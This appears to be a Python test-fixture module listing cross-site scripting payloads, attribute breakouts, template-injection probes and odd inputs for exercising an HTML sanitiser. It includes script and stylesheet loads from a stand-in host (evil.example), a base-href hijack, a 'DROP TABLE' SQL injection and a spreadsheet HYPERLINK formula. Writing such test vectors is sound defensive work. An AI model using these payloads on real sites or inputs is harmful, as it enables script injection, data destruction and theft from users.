"""What people might write so that somebody else's page does something, and what they write in good faith that looks odd."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert`3`</script>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</p></li></ul></main><script>alert(6)</script>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<img src=x onerror=alert(8)>",
    "<img/src=x/onerror=alert(9)//",
    "<img src=x onerror=&#97;lert(10)>",
    "<svg onload=alert(11)>",
    "<svg/onload=alert(12)>",
    "<svg><script>alert(13)</script></svg>",
    "<svg><a xlink:href='javascript:alert(14)'><text>qui</text></a></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(16)></mtext></math>",
    "<body onload=alert(17)>",
    "<iframe src='javascript:alert(18)'></iframe>",
    "<iframe srcdoc='<script>alert(19)</script>'></iframe>",
    "<object data='javascript:alert(20)'></object>",
    "<embed src='data:text/html,<script>alert(21)</script>'>",
    "<a href='javascript:alert(22)'>qui</a>",
    "<a href='jav&#x09;ascript:alert(23)'>qui</a>",
    "<details open ontoggle=alert(24)>",
    "<input autofocus onfocus=alert(25)>",
    "<select autofocus onfocus=alert(26)>",
    "<video src=x onerror=alert(27)>",
    "<audio src onloadstart=alert(28)>",
    "<marquee onstart=alert(29)>x</marquee>",
    "<form action='javascript:alert(30)'><button>qui</button></form>",
    "<button formaction='javascript:alert(31)'>qui</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(32)'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<template><script>alert(38)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(39)>'>",
    "<!--<img src='--><img src=x onerror=alert(40)>'>",
    "<![CDATA[<script>alert(41)</script>]]>",
    "<?xml version='1.0'?><script>alert(42)</script>",
    "<div hx-get='/lead' hx-trigger='load'>x</div>",
    "<div hx-on::load='alert(44)' hx-on:click='alert(44)'>x</div>",
    "<div data-topic='board:x' data-version='x' data-into='body'>x</div>",
    "<li id='main' data-morph='keep' data-outbox='x'>x</li>",
)
ATTRIBUTES: Final = (
    '" onmouseover="alert(47)',
    "' onfocus='alert(48)' autofocus='",
    '"><script>alert(49)</script>',
    "'><img src=x onerror=alert(50)>",
    "x onclick=alert(51) y",
    "javascript:alert(52)",
    "data:text/html,<script>alert(53)</script>",
    "`-alert(54)-`",
    '\\"-alert(55)//',
)
TEMPLATES: Final = (
    "{{7*7}}{{config}}{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(title)s %s %d %% %n",
    "{question} {0} {__class__}",
    "constructor.constructor('alert(60)')()",
)
ODD: Final = (
    "abc\u202etxt.exe\u202c dopo",
    "مرحبا <b>بالعالم</b> 123",
    "👩‍👩‍👧‍👦 🇮🇹 e\u0301 Z͑ͫ̓ͪ̂ͫ̽a̴l̡go",
    "'; DROP TABLE entry; --",
    '=HYPERLINK("http://evil.example")',
    "T4-03\u2028riga\u2029riga & &amp; &lt; <",
    "﷽ ＜script＞alert(66)＜/script＞",
)
VECTORS: Final = (*SCRIPTS, *ATTRIBUTES, *TEMPLATES, *ODD)


def medley(first: int, most: int) -> str:
    """As many of them as fit, beginning somewhere else each time: at least one is cut in the middle, as long words are."""
    turned = VECTORS[first % len(VECTORS) :] + VECTORS[: first % len(VECTORS)]
    return " ".join(turned)[:most].strip()
